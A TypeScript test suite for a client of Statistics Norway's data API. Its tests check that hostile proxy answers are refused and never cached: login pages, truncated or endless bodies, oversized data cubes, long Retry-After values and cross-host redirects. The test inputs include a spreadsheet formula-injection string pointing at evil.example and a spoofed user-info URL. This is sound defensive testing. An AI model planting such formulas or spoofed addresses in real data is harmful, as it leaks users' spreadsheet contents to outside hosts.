/**
 * Hostile corpus, area "ssb": answers from SSB, Klass or a municipality's proxy that an
 * attacker or an unlucky network could produce, played by the local PxWebApi 2 server
 * (tests/support/pxweb-server.ts, `hostileNext`). For every case:
 * - the load fails with an SsbError (`kostra fetch` exits 3) whose one-line message
 *   contains the words listed, and names the proxy's address rather than data.ssb.no;
 * - nothing is cached (memory, IndexedDB and the CLI's file cache), and no output file
 *   is written;
 * - a second load after the server recovers succeeds.
 * Waits run on a fake clock; nothing here sleeps for real.
 *
 * All data are SYNTHETIC (the test server's invented world).
 */
import { execFile } from "node:child_process";
import { existsSync } from "node:fs";
import { mkdtemp, readdir, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { IDBFactory } from "fake-indexeddb";
import { FileResponseCache } from "../../../src/cli/file-cache";
import { main } from "../../../src/cli/main";
import { templateById, templateIndicators } from "../../../src/kostra/catalog";
import { KostraError } from "../../../src/kostra/errors";
import { MAX_RESPONSE_BYTES, MAX_WAIT_SECONDS } from "../../../src/kostra/limits";
import { isAggregate, MUNICIPALITIES, municipalityById } from "../../../src/kostra/municipalities";
import { IndexedDbResponseCache } from "../../../src/sources/ssb/cache-indexeddb";
import { MemoryResponseCache } from "../../../src/sources/ssb/cache-memory";
import { SsbClient, type SsbClientOptions } from "../../../src/sources/ssb/client";
import { loadKostraGroups } from "../../../src/sources/ssb/klass";
import { loadFromSsb, type CachePolicy, type SsbLoadResult } from "../../../src/sources/ssb/load";
import { cacheKey, planLoad, type LoadRequest } from "../../../src/sources/ssb/planner";
import { RateLimiter, resetSharedRateLimiters } from "../../../src/sources/ssb/rate-limiter";
import { SsbError, type CachedResponse, type ResponseCache } from "../../../src/sources/ssb/types";
import { driveClock } from "../../support/clock-drive";
import { FakeClock, settle } from "../../support/fake-clock";
import { KLASS_PATH, startPxWebServer, type HostileAnswer, type PxWebServer } from "../../support/pxweb-server";
import { worldDataset } from "../../support/pxweb-world";
import { ssbFailure } from "../../support/ssb-failure";

const ROOT = join(__dirname, "..", "..", "..");
const pmk = templateIndicators(templateById("plan-miljo-kultur")!);
const REQUEST: LoadRequest = { indicators: pmk, municipalities: [municipalityById("baerum")!], years: [2017], weighted: false };

let server: PxWebServer;
let dir: string;
beforeEach(async () => {
  resetSharedRateLimiters();
  server = await startPxWebServer();
  dir = await mkdtemp(join(tmpdir(), "kostra-hostile-ssb-"));
});
afterEach(async () => {
  await server.close();
  await rm(dir, { recursive: true, force: true });
});

const isData = (r: { path: string }) => r.path.endsWith("/data");
const dataRequests = () => server.requests.filter(isData);
const origin = () => new URL(server.baseUrl).origin;

/** A cache that remembers every key it was asked to store. */
class RecordingCache implements ResponseCache {
  readonly stored: string[] = [];
  constructor(readonly inner: ResponseCache) {}
  get(key: string) {
    return this.inner.get(key);
  }
  async set(key: string, value: CachedResponse) {
    this.stored.push(key);
    await this.inner.set(key, value);
  }
  delete(key: string) {
    return this.inner.delete(key);
  }
}

function client(extra: Partial<SsbClientOptions> = {}): SsbClient {
  return new SsbClient({ baseUrl: server.baseUrl, backoffMs: 1, timeoutMs: 5000, limiter: new RateLimiter({ maxCalls: 1000, windowMs: 60_000 }), ...extra });
}

/** The data request's cache key for REQUEST on this server. */
function dataKey(): string {
  const plan = planLoad(REQUEST, { baseUrl: server.baseUrl, lang: "no", maxDataCells: 800_000 });
  expect(plan.queries).toHaveLength(1);
  return cacheKey(plan.queries[0]);
}

/** What an error message must be: one line, about the proxy that answered, never blaming data.ssb.no. */
function expectProxyMessage(e: SsbError, words: RegExp[]): void {
  for (const lang of ["nb", "en"] as const) {
    const text = e.text[lang];
    expect(text).not.toMatch(/\n/);
    expect(text).not.toMatch(/data\.ssb\.no|brannmur|firewall/);
    expect(text.length).toBeLessThan(600);
  }
  for (const w of words) expect(`${e.text.nb}\n${e.text.en}`).toMatch(w);
}

// ---------------------------------------------------------------------------
// The data answer

interface DataCase {
  name: string;
  answer: HostileAnswer;
  count?: number;
  kind: string;
  words: RegExp[];
  client?: Partial<SsbClientOptions>;
}

const DATA_CASES: DataCase[] = [
  { name: "a body cut in half (HTTP complete)", answer: { kind: "truncated" }, kind: "bad-response", words: [/ikke JSON, eller avkuttet/, /not JSON, or cut off/] },
  { name: "a connection dropped half-way through the body", answer: { kind: "cut-connection" }, count: 2, kind: "blocked", words: [/Fikk ikke kontakt med SSB gjennom mellomtjeneren/] },
  { name: "a login page with status 200", answer: { kind: "html-200" }, kind: "bad-response", words: [/nettside, ikke data — kanskje en innloggingsside/, /web page, not data — maybe a login page/] },
  { name: "a login page with status 403", answer: { kind: "html-200", status: 403 }, kind: "bad-response", words: [/kanskje en innloggingsside/] },
  { name: "an empty body with status 200", answer: { kind: "empty-200" }, kind: "bad-response", words: [/tomt svar/, /empty answer/] },
  { name: "another table's answer", answer: { kind: "other-table", table: "12842" }, kind: "bad-response", words: [/tabell 12842, men tabell 12362 ble spurt etter/, /table 12842, but table 12362 was asked for/] },
  { name: "a 2 KB cube declaring 24 million cells", answer: { kind: "cube-bomb" }, kind: "bad-response", words: [/24[\s\u00a0]300[\s\u00a0]000 celler der \d+ ble spurt etter/] },
  { name: "a body that never ends", answer: { kind: "endless" }, kind: "bad-response", words: [/større enn 1 MB og ble avbrutt/, /larger than 1 MB/], client: { maxResponseBytes: 1024 * 1024 } },
  { name: "a redirect to another host", answer: { kind: "redirect", to: "http://localhost:9/api/pxwebapi/v2/tables/12362/data" }, kind: "bad-response", words: [/videre til en annen adresse \(«http:\/\/localhost:9\//, /does not follow such redirects/] },
];

describe("hostile data answers: the load fails, nothing is cached, and the next load succeeds", () => {
  it.each(DATA_CASES)("$name", async ({ answer, count, kind, words, client: extra }) => {
    const memory = new RecordingCache(new MemoryResponseCache());
    const idb = new RecordingCache(new IndexedDbResponseCache({ indexedDB: new IDBFactory() }));
    const files = new RecordingCache(new FileResponseCache(join(dir, "cache")));
    for (const cache of [memory, idb, files]) {
      server.hostileNext(count ?? 1, answer, isData);
      const e = await ssbFailure(loadFromSsb(REQUEST, { client: client(extra), cache }));
      expect(e.kind).toBe(kind);
      expectProxyMessage(e, [...words, new RegExp(origin().replace(/[.]/g, "\\."))]);
      expect(cache.stored.filter((k) => k.includes("/data"))).toEqual([]);
      await expect(cache.get(dataKey())).resolves.toBeUndefined();
      // The server recovered: the same cache serves a complete load.
      const ok = await loadFromSsb(REQUEST, { client: client(extra), cache });
      expect(ok.complete).toBe(true);
      expect(ok.fromCache).toEqual([]);
      expect(cache.stored.filter((k) => k.includes("/data"))).toHaveLength(1);
    }
  });

  it("stops an endless body at MAX_RESPONSE_BYTES (64 MiB) while it streams in, without buffering it whole", async () => {
    server.hostileNext(1, { kind: "endless" }, isData);
    const before = process.memoryUsage().rss;
    const t0 = Date.now();
    const e = await ssbFailure(loadFromSsb(REQUEST, { client: client({ timeoutMs: 60_000 }) }));
    expect(e.messageIn("en")).toMatch(new RegExp(`larger than ${MAX_RESPONSE_BYTES / 1024 / 1024} MB and was stopped`));
    // Decoded text of 64 MiB is ~128 MB as UTF-16; the point is that it stops, in seconds.
    expect(Date.now() - t0).toBeLessThan(20_000);
    expect(process.memoryUsage().rss - before).toBeLessThan(1024 * 1024 * 1024);
  });

  it("refuses a cube bomb from its declared size, before anything is allocated for it", async () => {
    server.hostileNext(1, { kind: "cube-bomb", categories: 1000 }, isData); // 10^15 cells declared
    const e = await ssbFailure(loadFromSsb(REQUEST, { client: client() }));
    expect(e.messageIn("en")).toMatch(/cells where \d+ were asked for|must be at most 5000000/);
  });

  it("follows a redirect within the same origin, and refuses a redirect loop", async () => {
    const plan = planLoad(REQUEST, { baseUrl: server.baseUrl, lang: "no", maxDataCells: 800_000 });
    const path = new URL(plan.queries[0].url);
    server.hostileNext(1, { kind: "redirect", to: `${path.pathname}${path.search}`, status: 307 }, isData);
    const ok = await loadFromSsb(REQUEST, { client: client() });
    expect(ok.complete).toBe(true);
    server.hostileNext(10, { kind: "redirect", to: `${path.pathname}${path.search}` }, isData);
    const e = await ssbFailure(loadFromSsb(REQUEST, { client: client() }));
    expect(e.messageIn("nb")).toMatch(/sendte forespørselen videre/);
  });

  it("never contacts the other host of a redirect", async () => {
    const evil = await startPxWebServer();
    try {
      server.hostileNext(1, { kind: "redirect", to: `${evil.baseUrl}/tables/12362/data?lang=no` }, isData);
      const e = await ssbFailure(loadFromSsb(REQUEST, { client: client() }));
      expect(e.kind).toBe("bad-response");
      expect(evil.requests).toHaveLength(0);
    } finally {
      await evil.close();
    }
  });

  it("refuses every redirect a browser hides (an opaque redirect)", async () => {
    const opaque = { type: "opaqueredirect", status: 0, ok: false, redirected: false, url: "", headers: new Headers(), body: null } as unknown as Response;
    const c = new SsbClient({ baseUrl: "https://data.ssb.no/api/pxwebapi/v2", fetch: (async () => opaque) as unknown as typeof fetch, limiter: new RateLimiter({ maxCalls: 10, windowMs: 1000 }) });
    const e = await ssbFailure(c.request("GET", "https://data.ssb.no/api/pxwebapi/v2/config", undefined));
    expect(e.kind).toBe("bad-response");
    expect(e.messageIn("nb")).toMatch(/^SSB sendte forespørselen videre til en annen adresse\. Produktet følger ikke omdirigeringer/);
  });

  it("puts SSB's own problem text in a message as one bounded line", async () => {
    const title = `=HYPERLINK("http://evil.example/?"&A1)\n${"x".repeat(5000)}\u0000`;
    server.failNext(1, { status: 400, problem: { title, detail: "line\r\nbreak" } }, isData);
    const e = await ssbFailure(loadFromSsb(REQUEST, { client: client() }));
    expect(e.kind).toBe("bad-request");
    expect(e.messageIn("nb")).not.toMatch(/[\n\r\u0000]/);
    expect(e.messageIn("nb").length).toBeLessThan(500);
  });
});

// ---------------------------------------------------------------------------
// Entries already in a cache

describe("a cached lie is evicted and fetched again", () => {
  const lies: [string, (good: string) => string][] = [
    ["a login page", () => "<!DOCTYPE html><html><body>Logg inn</body></html>"],
    ["a cut-off body", (good) => good.slice(0, good.length / 2)],
    ["another table's answer", () => JSON.stringify(worldDataset("12842"))],
    ["an empty body", () => ""],
  ];

  it.each(lies)("%s, in memory and IndexedDB, with cache-first and refresh", async (_, lie) => {
    for (const make of [() => new MemoryResponseCache(), () => new IndexedDbResponseCache({ indexedDB: new IDBFactory() })]) {
      for (const policy of ["cache-first", "refresh"] as CachePolicy[]) {
        const cache = make();
        const first = await loadFromSsb(REQUEST, { client: client(), cache });
        const good = (await cache.get(dataKey()))!;
        await cache.set(dataKey(), { ...good, body: lie(good.body) });
        const before = dataRequests().length;
        const again = await loadFromSsb(REQUEST, { client: client(), cache, policy });
        expect(again.complete).toBe(true);
        expect(dataRequests().length).toBe(before + 1);
        expect(again.dataset.observations.length).toBe(first.dataset.observations.length);
        if (policy === "cache-first") expect(again.warnings.map((w) => w.nb).join(" ")).toMatch(/kunne ikke brukes og ble slettet fra hurtigbufferen/);
        // The good answer is back in the cache.
        expect((await cache.get(dataKey()))!.body).toBe(good.body);
      }
    }
  });

  it("a lie is never served as a stale copy when SSB fails", async () => {
    const cache = new MemoryResponseCache();
    await loadFromSsb(REQUEST, { client: client(), cache });
    await cache.set(dataKey(), { body: JSON.stringify(worldDataset("12842")), fetchedAt: "2025-01-01T00:00:00.000Z" });
    server.failNext(10, { status: 503 }, isData);
    const e = await ssbFailure(loadFromSsb(REQUEST, { client: client({ maxRetries: 0 }), cache, policy: "refresh" }));
    expect(e.kind).toBe("unavailable");
    expect(cache.has(dataKey())).toBe(false);
  });

  it("an entry too large for the limits is neither stored nor read, in every cache", async () => {
    const big: CachedResponse = { body: " ".repeat(MAX_RESPONSE_BYTES + 1), fetchedAt: "2025-01-01T00:00:00.000Z" };
    const fileCache = new FileResponseCache(join(dir, "big"));
    for (const cache of [new MemoryResponseCache(), new IndexedDbResponseCache({ indexedDB: new IDBFactory() }), fileCache]) {
      await cache.set("k", big);
      await expect(cache.get("k")).resolves.toBeUndefined();
    }
    expect(existsSync(join(dir, "big"))).toBe(false);
  });
});

// ---------------------------------------------------------------------------
// Waiting: Retry-After and /config, on a fake clock

/** A fetch to the real server that reads each answer whole, so a test knows when no request is in flight. */
function trackedFetch() {
  let inflight = 0;
  const tracked = (async (input: string | URL | Request, init?: RequestInit) => {
    inflight++;
    try {
      const res = await fetch(input, init);
      const bytes = await res.arrayBuffer();
      return new Response(bytes.byteLength === 0 && [204, 304].includes(res.status) ? null : bytes, { status: res.status, headers: res.headers });
    } finally {
      inflight--;
    }
  }) as typeof fetch;
  return { fetch: tracked, idle: () => inflight === 0 };
}

function clockedClient(clock: FakeClock, waits: number[], extra: Partial<SsbClientOptions> = {}) {
  const { fetch: f, idle } = trackedFetch();
  const c = new SsbClient({ baseUrl: server.baseUrl, fetch: f, clock, timeoutMs: 30_000, onWait: (_, ms) => waits.push(ms), ...extra });
  return { c, idle };
}

/** "HH:MM" of a time in this machine's time zone, as a user reads a clock. */
const localHm = (ms: number) => new Date(ms).toTimeString().slice(0, 5);

describe("bounded waiting", () => {
  it.each([
    ["Retry-After: 3600 on 429", { kind: "retry-after", status: 429, value: "3600" } as HostileAnswer, "rate-limited", (now: number) => now + 3600_000],
    ["Retry-After: 3600 on 503", { kind: "retry-after", status: 503, value: "3600" } as HostileAnswer, "unavailable", (now: number) => now + 3600_000],
    ["Retry-After: a date in 2099", { kind: "retry-after", status: 429, value: "Wed, 21 Oct 2099 12:00:00 GMT" } as HostileAnswer, "rate-limited", () => Date.UTC(2099, 9, 21, 12)],
  ])("%s ends the load at once and says when SSB can be asked again", async (_, answer, kind, until) => {
    const clock = new FakeClock();
    const waits: number[] = [];
    const { c, idle } = clockedClient(clock, waits);
    const cache = new RecordingCache(new MemoryResponseCache());
    server.hostileNext(1, answer, isData);
    const start = clock.now();
    const e = await ssbFailure(driveClock(clock, loadFromSsb(REQUEST, { client: c, cache }), idle));
    expect(e.kind).toBe(kind);
    expect(clock.now() - start).toBeLessThanOrEqual(MAX_WAIT_SECONDS * 1000);
    expect(clock.sleeps.filter((ms) => ms > MAX_WAIT_SECONDS * 1000)).toEqual([]);
    expect(dataRequests()).toHaveLength(1);
    const at = until(start);
    expect(e.messageIn("nb")).toContain(`Prøv igjen etter ${new Date(at).getFullYear() === new Date(start).getFullYear() && new Date(at).getDate() === new Date(start).getDate() ? "" : "2099-10-21 "}kl. ${localHm(at)}`);
    expect(e.messageIn("en")).toMatch(/asks us to wait over 3 minutes, longer than the product waits\. Try again after /);
    expectProxyMessage(e, [new RegExp(origin().replace(/[.]/g, "\\."))]);
    expect(cache.stored.filter((k) => k.includes("/data"))).toEqual([]);
  });

  it("waits as SSB asks when the wait is within bounds (Retry-After: 120)", async () => {
    const clock = new FakeClock();
    const waits: number[] = [];
    const { c, idle } = clockedClient(clock, waits);
    server.hostileNext(1, { kind: "retry-after", status: 429, value: "120" }, isData);
    const start = clock.now();
    const r = await driveClock(clock, loadFromSsb(REQUEST, { client: c }), idle);
    expect(r.complete).toBe(true);
    expect(clock.now() - start).toBeGreaterThanOrEqual(120_000);
    expect(waits).toContain(120_000);
  });

  it("clamps a /config announcing a huge window, one call and 10^12 cells: the load completes within the longest wait", async () => {
    await server.close();
    server = await startPxWebServer({ config: { timeWindow: 1e9, maxCallsPerTimeWindow: 1, maxDataCells: 1e12 } });
    const clock = new FakeClock();
    const waits: number[] = [];
    const { c, idle } = clockedClient(clock, waits);
    const start = clock.now();
    const r: SsbLoadResult = await driveClock(clock, loadFromSsb(REQUEST, { client: c }), idle);
    expect(r.complete).toBe(true);
    expect(c.limiter.limits).toEqual({ maxCalls: 1, windowMs: MAX_WAIT_SECONDS * 1000 });
    // /config, then the table's metadata and its data: one window of waiting before each of the last two.
    expect(clock.now() - start).toBeLessThanOrEqual(2 * MAX_WAIT_SECONDS * 1000);
    expect(waits.every((ms) => ms <= MAX_WAIT_SECONDS * 1000)).toBe(true);
    expect(waits.length).toBeLessThanOrEqual(2);
  });

  it("refuses, before the first request, a load the announced quota would stretch beyond 10 minutes", async () => {
    await server.close();
    // One call per 3 minutes, and the smallest requests the product accepts: many requests.
    server = await startPxWebServer({ config: { timeWindow: 180, maxCallsPerTimeWindow: 1, maxDataCells: 1_000 } });
    const clock = new FakeClock();
    const { c, idle } = clockedClient(clock, []);
    const everyone: LoadRequest = { ...REQUEST, municipalities: MUNICIPALITIES.filter((m) => !isAggregate(m)), years: [2017, 2018, 2019] };
    const planned = planLoad(everyone, { baseUrl: c.baseUrl, lang: c.lang, maxDataCells: 1_000 }).queries.length;
    expect(planned).toBeGreaterThan(5);
    const e = await ssbFailure(driveClock(clock, loadFromSsb(everyone, { client: c }), idle));
    expect(e.kind).toBe("rate-limited");
    // The planned data requests and the metadata of the one table they read.
    expect(e.messageIn("nb")).toMatch(new RegExp(`tillater 1 forespørsler per 180 sekunder; de ${planned + 1} forespørslene denne hentingen trenger ville ta minst \\d+ minutter\\. Hent færre sektorer eller år om gangen, eller be IT-avdelingen se på kvoten til mellomtjeneren\\.`));
    expect(dataRequests()).toHaveLength(0);
    // The same quota with a load of a few requests goes ahead.
    const r = await driveClock(clock, loadFromSsb(REQUEST, { client: c }), idle);
    expect(r.complete).toBe(true);
  });

  it("a quota wait longer than the bound ends the load with the time SSB can be asked again", async () => {
    const clock = new FakeClock();
    const limiter = new RateLimiter({ maxCalls: 1, windowMs: 60_000 }, clock);
    limiter.pauseUntil(clock.now() + 3600_000);
    const { c, idle } = clockedClient(clock, [], { limiter });
    const e = await ssbFailure(driveClock(clock, loadFromSsb(REQUEST, { client: c }), idle));
    expect(e.kind).toBe("rate-limited");
    expect(e.messageIn("nb")).toContain(`tillater ikke flere forespørsler på over 3 minutter. Prøv igjen etter kl. ${localHm(clock.now() + 3600_000)}.`);
    expect(server.requests).toHaveLength(0);
  });

  it("holds a request timeout within its bounds", async () => {
    const clock = new FakeClock();
    const { c } = clockedClient(clock, [], { timeoutMs: 1e12 });
    server.delayNext(1, 100, isData);
    void c.config().catch(() => undefined);
    await settle();
    expect(Math.max(...clock.sleeps)).toBeLessThanOrEqual(600_000);
  });
});

// ---------------------------------------------------------------------------
// /config, table information, search, metadata, Klass

describe("other answers", () => {
  it.each([
    ["a login page", { kind: "html-200" } as HostileAnswer],
    ["a cut-off body", { kind: "truncated" } as HostileAnswer],
    ["an empty body", { kind: "empty-200" } as HostileAnswer],
  ])("a /config that is %s: SSB's published limits, a warning, and nothing cached", async (_, answer) => {
    const cache = new RecordingCache(new MemoryResponseCache());
    server.hostileNext(1, answer, (r) => r.path === "/config");
    const r = await loadFromSsb(REQUEST, { client: client(), cache });
    expect(r.complete).toBe(true);
    expect(r.warnings.map((w) => w.nb).join(" ")).toMatch(/SSBs grenser \(\/config\) kunne ikke leses/);
    expect(cache.stored.filter((k) => k.endsWith("/config"))).toEqual([]);
    // The next load asks for /config again, and caches the good one.
    await loadFromSsb(REQUEST, { client: client(), cache });
    expect(server.requests.filter((q) => q.path === "/config")).toHaveLength(2);
    expect(cache.stored.filter((k) => k.endsWith("/config"))).toHaveLength(1);
  });

  it("a cached /config that is not one is evicted, and one dated in the future is not trusted", async () => {
    const cache = new MemoryResponseCache();
    const key = `GET ${server.baseUrl}/config`;
    await cache.set(key, { body: "<html>login</html>", fetchedAt: new Date().toISOString() });
    await loadFromSsb(REQUEST, { client: client(), cache });
    expect(server.requests.filter((q) => q.path === "/config")).toHaveLength(1);
    expect((await cache.get(key))!.body).toMatch(/maxDataCells/);
    await cache.set(key, { body: JSON.stringify({ maxDataCells: 1000 }), fetchedAt: "2999-01-01T00:00:00.000Z" });
    await loadFromSsb(REQUEST, { client: client(), cache });
    expect(server.requests.filter((q) => q.path === "/config")).toHaveLength(2);
  });

  it("table information about another table, or a search answer that is not one, is an SSB failure", async () => {
    server.hostileNext(1, { kind: "other-table", table: "12842" }, (r) => r.path === "/tables/12362");
    const info = await ssbFailure(client().tableInfo("12362"));
    expect(info.kind).toBe("bad-response");
    server.hostileNext(1, { kind: "html-200" }, (r) => r.path === "/tables");
    const search = await ssbFailure(client().search("kostra"));
    expect(search.messageIn("nb")).toMatch(/kanskje en innloggingsside/);
    server.hostileNext(1, { kind: "truncated" }, (r) => r.path.endsWith("/metadata"));
    const meta = await ssbFailure(client().metadata("12362"));
    expect(meta.kind).toBe("bad-response");
    // Recovered.
    expect((await client().tableInfo("12362")).id).toBe("12362");
    expect((await client().search("12362")).map((t) => t.id)).toContain("12362");
  });

  it("a Klass answer that is a login page fails the grouping in words, is not cached, and the next load succeeds", async () => {
    await server.close();
    server = await startPxWebServer({ klass: {} });
    const cache = new RecordingCache(new MemoryResponseCache());
    server.hostileNext(1, { kind: "html-200" }, (r) => r.path.startsWith(KLASS_PATH));
    const e = await ssbFailure(loadKostraGroups(2021, { client: client(), cache }));
    expect(e.kind).toBe("bad-response");
    expect(e.messageIn("nb")).toMatch(/^Kunne ikke hente KOSTRA-grupperingen for 2021 fra SSB \(Klass\): Mellomtjeneren .* svarte med en nettside/);
    expect(cache.stored).toEqual([]);
    server.hostileNext(1, { kind: "other-table", table: "12362" }, (r) => r.path.startsWith(KLASS_PATH));
    expect((await ssbFailure(loadKostraGroups(2021, { client: client(), cache }))).kind).toBe("bad-response");
    expect(cache.stored).toEqual([]);
    const ok = await loadKostraGroups(2021, { client: client(), cache });
    expect(ok.groups.ha).toBe("ekg07");
    expect(cache.stored).toHaveLength(1);
  });

  it.each([
    ["user info in the address", "https://data.ssb.no@evil.example/api/pxwebapi/v2"],
    ["plain http to another host", "http://evil.example/api/pxwebapi/v2"],
    ["a query string", "https://proxy.kommune.no/api/pxwebapi/v2?x=1"],
  ])("an SSB address with %s is refused before anything is sent", (_, baseUrl) => {
    let error: unknown;
    try {
      new SsbClient({ baseUrl });
    } catch (e) {
      error = e;
    }
    expect(error).toBeInstanceOf(KostraError);
    expect((error as KostraError).code).toBe("bad-input");
  });
});

// ---------------------------------------------------------------------------
// `kostra fetch`: exit codes, the file cache, --refresh

async function kostraFetch(args: string[]): Promise<{ code: number; err: string }> {
  let err = "";
  const code = await main(["fetch", "--sector", "plan-miljo-kultur", "--years", "2017", "--municipality", "0219", "--base-url", server.baseUrl, ...args], {
    out: () => undefined,
    err: (t) => (err += t),
    readFile: () => new Uint8Array(),
  });
  return { code, err };
}

/** The keys of the entries in a cache folder. */
async function cachedKeys(cacheDir: string): Promise<string[]> {
  if (!existsSync(cacheDir)) return [];
  const names = (await readdir(cacheDir)).filter((n) => n.endsWith(".json"));
  return Promise.all(names.map(async (n) => (JSON.parse(await readFile(join(cacheDir, n), "utf8")) as { key: string }).key));
}

describe("kostra fetch against a hostile SSB or proxy", () => {
  it.each([
    ["a login page", { kind: "html-200" } as HostileAnswer, /nettside, ikke data — kanskje en innloggingsside/],
    ["a cut-off body", { kind: "truncated" } as HostileAnswer, /ikke JSON, eller avkuttet/],
    ["an empty body", { kind: "empty-200" } as HostileAnswer, /tomt svar/],
    ["another table's answer", { kind: "other-table", table: "12842" } as HostileAnswer, /tabell 12842, men tabell 12362 ble spurt etter/],
    ["a cube bomb", { kind: "cube-bomb" } as HostileAnswer, /celler der \d+ ble spurt etter/],
    ["Retry-After: 3600", { kind: "retry-after", status: 429, value: "3600" } as HostileAnswer, /Prøv igjen etter (\d{4}-\d\d-\d\d )?kl\. \d\d:\d\d\./],
    ["a redirect to another host", { kind: "redirect", to: "https://evil.example/x" } as HostileAnswer, /videre til en annen adresse/],
  ])("%s: exit 3 naming the proxy, no file, nothing cached; the next run succeeds", async (_, answer, words) => {
    const cacheDir = join(dir, "cache");
    const out = join(dir, "out.json");
    server.hostileNext(1, answer, isData);
    const bad = await kostraFetch(["--cache-dir", cacheDir, "--out", out]);
    expect(bad.code).toBe(3);
    expect(bad.err).toMatch(words);
    expect(bad.err).toContain(origin());
    expect(bad.err).not.toMatch(/data\.ssb\.no|brannmur|uventet feil|\bat .*\.js:\d+/);
    expect(existsSync(out)).toBe(false);
    expect((await cachedKeys(cacheDir)).filter((k) => k.includes("/data"))).toEqual([]);
    const good = await kostraFetch(["--cache-dir", cacheDir, "--out", out]);
    expect(good.code).toBe(0);
    expect(existsSync(out)).toBe(true);
    expect((await cachedKeys(cacheDir)).filter((k) => k.includes("/data"))).toHaveLength(1);
  });

  it("recovers from a bad entry written into the cache folder, with and without --refresh", async () => {
    const cacheDir = join(dir, "cache");
    const out = join(dir, "out.json");
    expect((await kostraFetch(["--cache-dir", cacheDir, "--out", out])).code).toBe(0);
    const files = new FileResponseCache(cacheDir);
    const key = (await cachedKeys(cacheDir)).find((k) => k.includes("/data"))!;
    const good = (await files.get(key))!;
    const plant = (body: string) => writeFile(files.pathFor(key), JSON.stringify({ key, body, fetchedAt: good.fetchedAt, updated: good.updated }));
    for (const args of [[], ["--refresh"]]) {
      await plant("<!DOCTYPE html><html><body>Logg inn</body></html>");
      const before = dataRequests().length;
      const r = await kostraFetch(["--cache-dir", cacheDir, "--out", out, ...args]);
      expect(r.code).toBe(0);
      expect(dataRequests().length).toBe(before + 1);
      expect((await files.get(key))!.body).toBe(good.body);
    }
    // A file that is not an entry at all (garbage, or another query's) is removed too.
    await writeFile(files.pathFor(key), "\u0000garbage");
    expect((await kostraFetch(["--cache-dir", cacheDir, "--out", out])).code).toBe(0);
    expect((await files.get(key))!.body).toBe(good.body);
  });

  it("the built command exits 3 on a Retry-After of an hour without waiting for it", async () => {
    if (!existsSync(join(ROOT, "build", "cli", "main.js"))) return; // built by `npm test` (build:cli) first
    server.hostileNext(1, { kind: "retry-after", status: 429, value: "3600" }, isData);
    const t0 = Date.now();
    const r = await new Promise<{ code: number; err: string }>((resolve) => {
      const args = ["fetch", "--sector", "plan-miljo-kultur", "--years", "2017", "--base-url", server.baseUrl, "--no-cache", "--out", join(dir, "x.json")];
      execFile(process.execPath, [join(ROOT, "bin", "kostra.js"), ...args], { cwd: ROOT, encoding: "utf8" }, (error, _stdout, stderr) =>
        resolve({ code: error ? ((error as { code?: number }).code ?? 1) : 0, err: stderr }),
      );
    });
    expect(r.code).toBe(3);
    expect(r.err).toMatch(/ber om å vente i over 3 minutter, lenger enn produktet venter\. Prøv igjen etter (\d{4}-\d\d-\d\d )?kl\. \d\d:\d\d\./);
    expect(Date.now() - t0).toBeLessThan(20_000);
  });
});
